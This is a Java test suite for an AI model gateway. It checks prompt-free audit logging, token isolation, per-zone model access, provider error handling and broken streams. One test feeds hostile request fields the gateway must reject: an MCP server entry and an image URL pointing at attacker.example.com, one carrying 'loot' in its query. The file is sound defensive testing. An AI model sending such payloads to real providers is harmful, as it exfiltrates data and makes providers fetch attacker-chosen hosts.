// SPDX-License-Identifier: Apache-2.0
package dev.tollgate.scenarios.models;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tollgate.scenarios.harness.LogEntries;
import dev.tollgate.scenarios.harness.RawHttp;
import dev.tollgate.terms.Digest;
import dev.tollgate.terms.testing.Requirement;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/// Which models an agent gets, what the log says of it, and what becomes of providers that do not behave.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ModelDoorTest {
    private static final JsonMapper JSON = new JsonMapper();
    private static final String PROMPT = "prompt-canary-5521";

    private final Models models;

    ModelDoorTest(@TempDir Path folder) throws IOException {
        models = Models.open(folder);
    }

    @AfterAll
    void close() {
        models.close();
    }

    private static String hash(String text) {
        return Digest.of(text.getBytes(StandardCharsets.UTF_8)).text();
    }

    @ParameterizedTest
    @EnumSource
    @Requirement("S1-25")
    void the_log_has_the_models_version_and_the_hashes_of_what_went_and_what_came_and_never_the_words(Speech speech) {
        for (boolean stream : List.of(false, true)) {
            // Given a provider that looks whether the decision is in the log when it is asked
            AtomicInteger decided = new AtomicInteger();
            int before = models.entries("decision").size();
            models.provider().answers(_ -> {
                decided.set(models.entries("decision").size());
                return stream
                        ? StubProvider.Reply.events(speech.streams(List.of("answer-", "canary-", "8813")))
                        : StubProvider.Reply.json(200, speech.says("answer-canary-8813"));
            });

            // When
            RawHttp.Exchange answer = models.ask(speech.path(), speech.asks("small", PROMPT, stream));

            // Then
            assertThat(answer.text()).contains("canary");
            assertThat(decided.get()).isEqualTo(before + 1);
            JsonNode decision = models.entries("decision").getLast();
            String sent = models.provider().got().getLast().body();
            String released = stream ? String.join("", Speech.data(answer.text())) : answer.text();
            assertThat(decision.at("/call/model").asString("")).startsWith("stub-");
            assertThat(decision.at("/call/prompt_hash").asString("")).isEqualTo(hash(sent));
            assertThat(decision.at("/caller/agent").asString("")).isEqualTo("sales-copilot");
            assertThat(decision.at("/ruling/rules/0").asString("")).isEqualTo("model:small");
            JsonNode outcome = models.outcome();
            assertThat(outcome.path("request"))
                    .isEqualTo(
                            decision.at("/call/request").isMissingNode()
                                    ? decision.path("request")
                                    : decision.at("/call/request"));
            assertThat(outcome.at("/traffic/model").asString("")).endsWith("-build7");
            assertThat(JSON.readTree(sent).path("model").asString(""))
                    .isEqualTo(decision.at("/call/model").asString(""));
            assertThat(outcome.at("/traffic/output_hash").asString("")).isEqualTo(hash(released));
        }
        assertThat(String.join("\n", LogEntries.of(models.gateway()).texts()))
                .doesNotContain(PROMPT, "answer-canary-8813");
    }

    @Test
    @Requirement({"S3-1", "S2-2"})
    void the_callers_token_goes_to_no_provider() {
        // Given
        models.provider().answers(_ -> StubProvider.Reply.json(200, Speech.CHAT.says("Hello.")));
        String token = models.token();

        // When
        RawHttp.Exchange answer = models.ask(Models.CHAT, token, Speech.CHAT.asks("small", "Hello", false));

        // Then
        assertThat(answer.status()).as(answer.text()).isEqualTo(200);
        assertThat(models.provider().got().getLast().toString()).doesNotContain(token.split("\\.", -1));
    }

    @Test
    @Requirement("S1-32")
    void an_agent_gets_the_models_of_its_zone_and_no_others() {
        // Given
        models.provider().answers(_ -> StubProvider.Reply.json(200, Speech.CHAT.says("Hello.")));
        int calls = models.provider().got().size();

        // When
        RawHttp.Exchange large = models.ask(Models.CHAT, models.token(), Speech.CHAT.asks("large", "Hello", false));
        List<RawHttp.Exchange> others = List.of(
                models.ask(Models.CHAT, models.humble(), Speech.CHAT.asks("large", "Hello", false)),
                models.ask(Models.CHAT, Speech.CHAT.asks("stub-maxi-2026-10-01", "Hello", false)),
                models.ask(Models.CHAT, Speech.CHAT.asks("gpt-anything", "Hello", true)),
                models.ask(Models.MESSAGES, Speech.MESSAGES.asks("large", "Hello", false)));

        // Then
        assertThat(large.status()).as(large.text()).isEqualTo(200);
        assertThat(others)
                .allSatisfy(
                        answer -> assertThat(answer.status()).as(answer.text()).isEqualTo(403));
        assertThat(JSON.readTree(others.getFirst().text()).at("/error/type").asString(""))
                .isEqualTo("permission_error");
        assertThat(JSON.readTree(others.getLast().text()).path("type").asString(""))
                .isEqualTo("error");
        assertThat(JSON.readTree(others.getLast().text()).at("/error/type").asString(""))
                .isEqualTo("permission_error");
        assertThat(models.provider().got()).hasSize(calls + 1);
        assertThat(models.entries("decision").getLast().at("/ruling/outcome").asString(""))
                .isEqualTo("deny");
    }

    @ParameterizedTest
    @Requirement("S1-32")
    @ValueSource(
            strings = {
                "\"tools\":[{\"type\":\"web_search\"}]",
                "\"web_search_options\":{}",
                "\"store\":true",
                "\"n\":2",
                "\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://attacker.example.com\"}]",
                "\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image_url\",\"image_url\":"
                        + "{\"url\":\"https://attacker.example.com/?q=loot\"}}]}]",
                "\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"file\",\"file\":{\"file_id\":\"f1\"}}]}]",
                "\"messages\":\"hello\""
            })
    void a_provider_is_not_made_to_fetch_run_or_keep_anything(String member) {
        // Given
        int calls = models.provider().got().size();
        String messages = member.startsWith("\"messages\"") ? "" : ",\"messages\":[]";

        // When
        RawHttp.Exchange answer = models.ask(Models.CHAT, "{\"model\":\"small\"," + member + messages + "}");

        // Then
        assertThat(answer.status()).as(answer.text()).isEqualTo(400);
        assertThat(JSON.readTree(answer.text()).at("/error/type").asString("")).isEqualTo("invalid_request_error");
        assertThat(models.provider().got()).hasSize(calls);
    }

    @ParameterizedTest
    @EnumSource
    void strangers_hear_so_in_the_words_of_the_provider(Speech speech) {
        // When
        RawHttp.Exchange answer = models.ask(speech.path(), "sk-guessed", speech.asks("small", "Hello", false));

        // Then
        assertThat(answer.status()).isEqualTo(401);
        assertThat(JSON.readTree(answer.text()).at("/error/type").asString("")).isEqualTo("authentication_error");
    }

    @ParameterizedTest
    @EnumSource
    void a_provider_that_fails_is_told_of_in_its_own_words_and_nothing_of_its_answer_is(Speech speech) {
        String key = "Incorrect API key provided: " + Models.KEY;
        for (boolean stream : List.of(false, true)) {
            // When
            List<RawHttp.Exchange> answers = List.of(
                            StubProvider.Reply.json(401, speech.says(key)),
                            StubProvider.Reply.json(500, speech.says(key)),
                            StubProvider.Reply.json(200, "no json " + key),
                            StubProvider.Reply.json(200, speech.says(key).substring(0, 80))
                                    .hangingUp(),
                            StubProvider.Reply.json(429, speech.says(key)).saying("Retry-After", "7"),
                            StubProvider.Reply.json(302, "").saying("Location", "http://127.0.0.1:9/"))
                    .stream()
                    .map(reply -> {
                        models.provider().answers(_ -> reply);
                        return models.ask(speech.path(), speech.asks("small", "Hello", stream));
                    })
                    .toList();

            // Then
            assertThat(answers).extracting(RawHttp.Exchange::status).containsExactly(502, 502, 502, 502, 503, 502);
            assertThat(answers.get(4).headers()).containsEntry("retry-after", "7");
            assertThat(answers).noneMatch(answer -> answer.wire().contains("Incorrect"));
            assertThat(models.outcome().path("result").asString("")).isEqualTo("upstream_failed");
        }
    }

    @Test
    void what_a_provider_does_not_like_about_a_request_is_for_the_agent() {
        // Given
        String said = "{\"error\":{\"message\":\"max_tokens is too large\",\"type\":\"invalid_request_error\"}}";
        models.provider().answers(_ -> StubProvider.Reply.json(400, said));

        // When
        RawHttp.Exchange answer = models.ask(Models.CHAT, Speech.CHAT.asks("small", "Hello", false));

        // Then
        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.text()).contains("max_tokens is too large");
    }

    @ParameterizedTest
    @EnumSource
    void a_stream_that_breaks_off_or_is_garbage_ends_in_an_error(Speech speech) {
        List<String> events = speech.streams(List.of("Once upon ", "a time"));
        List<String> half = events.subList(0, events.size() - 3);
        for (StubProvider.Reply reply : List.of(
                StubProvider.Reply.events(half),
                StubProvider.Reply.events(half).hangingUp(),
                StubProvider.Reply.events(List.of(half.getFirst(), "data: {broken\n\n")),
                StubProvider.Reply.events(
                        List.of(half.getFirst(), "data: {\"error\":{\"message\":\"overloaded\"}}\n\n")))) {
            // Given
            models.provider().answers(_ -> reply);

            // When
            RawHttp.Exchange answer = models.ask(speech.path(), speech.asks("small", "Hello", true));

            // Then
            assertThat(answer.status()).isEqualTo(200);
            assertThat(JSON.readTree(Speech.data(answer.text()).getLast())
                            .path("error")
                            .isMissingNode())
                    .as(answer.text())
                    .isFalse();
            assertThat(models.outcome().at("/traffic/ended").asString("")).isEqualTo("broken");
        }
    }
}
